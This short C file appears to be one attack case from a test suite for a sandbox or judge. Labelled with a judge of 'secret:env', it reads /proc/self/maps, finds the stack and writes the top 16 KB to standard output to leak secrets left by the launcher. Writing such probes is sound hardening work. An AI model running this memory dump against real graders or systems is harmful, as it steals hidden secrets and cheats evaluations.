#include "attack.h"
// What the launcher left on the stack above the environment.
extern char **environ;
ATTACK(.judge = "secret:env") {
  char line[256];
  FILE *maps = fopen("/proc/self/maps", "r");
  for (unsigned long from, to; maps && fgets(line, sizeof line, maps);)
    if (strstr(line, "[stack]") && sscanf(line, "%lx-%lx", &from, &to) == 2) write(1, (void *)(to - 16384), 16384);
}
